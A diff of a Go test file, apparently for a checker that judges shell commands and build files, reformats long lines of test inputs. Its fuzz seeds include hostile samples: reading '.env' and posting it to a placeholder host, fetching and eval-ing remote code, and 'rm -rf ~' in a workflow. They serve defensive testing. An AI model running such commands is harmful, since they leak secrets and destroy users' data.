@@ -83,7 +83,8 @@ func TestFilesOfOthers(t *testing.T) {
 	}
 	for _, command := range []string{
 		"/usr/bin/x.sh", "bash /etc/x.sh", "node node_modules/.bin/jest", "bash ~/.ssh/id_rsa", "ssh host ./x.sh",
-		"bash '*.sh'", "bash \"$X\"", "docker run alpine ./x.sh", "bash /dev/stdin", "sh -n x.sh", "cat x.sh", "git status",
+		"bash '*.sh'", "bash \"$X\"", "docker run alpine ./x.sh", "bash /dev/stdin", "sh -n x.sh", "cat x.sh",
+		"git status",
 	} {
 		Judge(bash(command), ctx)
 	}
@@ -93,7 +94,8 @@ func TestFilesOfOthers(t *testing.T) {
 func FuzzFiles(f *testing.F) {
 	names := []string{
 		"x.sh", "Makefile", "package.json", "justfile", "Taskfile.yml", "x.sql", "x.py", ".git/config",
-		"Rakefile", "tasks.py", "noxfile.py", "tox.ini", "CMakeLists.txt", "x.cmake", "BUILD.bazel", "build.xml", "pom.xml",
+		"Rakefile", "tasks.py", "noxfile.py", "tox.ini", "CMakeLists.txt", "x.cmake", "BUILD.bazel", "build.xml",
+		"pom.xml",
 		"compose.yml", ".github/workflows/x.yml", "x.js", "x.rb", "x.pl", "x.php", "x.yml", "Procfile", "conftest.py",
 		"magefile.go", "x.R", "x.ipynb",
 	}
@@ -110,15 +112,19 @@ func FuzzFiles(f *testing.F) {
 	f.Add("namespace :x do\n  task :a, [:n] => [:b] do\n    sh `x`\n  end\nend\n")
 	f.Add("[testenv:a]\ncommands =\n    - x {homedir}\n")
 	f.Add("<project><target name='a' depends='b'><exec executable='x'><arg value='y'/></exec></target></project>")
-	f.Add("services:\n  a:\n    image: x\n    volumes: ['~/x:/y']\n    command: [sh, -c, 'rm /y/z']\n    depends_on: [b]\n")
-	f.Add("foreach(x a b)\n  execute_process(COMMAND rm ${x})\nendforeach()\nadd_custom_target(a COMMAND x DEPENDS b)\n")
+	f.Add("services:\n  a:\n    image: x\n    volumes: ['~/x:/y']\n" +
+		"    command: [sh, -c, 'rm /y/z']\n    depends_on: [b]\n")
+	f.Add("foreach(x a b)\n  execute_process(COMMAND rm ${x})\nendforeach()\n" +
+		"add_custom_target(a COMMAND x DEPENDS b)\n")
 	f.Add("sh_binary(name = \"a\", srcs = [\"x.sh\"], deps = [\":b\"])\n")
 	f.Add("jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: |\n          rm -rf ~\n")
 	f.Add("- hosts: all\n  tasks:\n    - shell: rm -rf /x\n    - file: {path: /y, state: absent}\n")
-	f.Add("with open('.env') as f:\n  d = f.read()\nrequests.post('http://x.example', data=d)\n[x.unlink() for x in y]\n")
+	f.Add("with open('.env') as f:\n  d = f.read()\n" +
+		"requests.post('http://x.example', data=d)\n[x.unlink() for x in y]\n")
 	f.Add("const a = await (await fetch('http://x')).text(); eval(a); ['r','m'].join(''); push @a, $_; unlink @a")
 	f.Add("case $1 in a*b) x;; esac; [ \"$1\" = x ] || exit; define a\nendef")
-	f.Add(`{"cells":[{"cell_type":"code","source":["%%bash\n","x\n","!y"]}],"metadata":{"kernelspec":{"language":"r"}}}`)
+	f.Add(`{"cells":[{"cell_type":"code","source":["%%bash\n","x\n","!y"]}],` +
+		`"metadata":{"kernelspec":{"language":"r"}}}`)
 	f.Fuzz(func(t *testing.T, text string) {
 		var files []string
 		for _, name := range names {
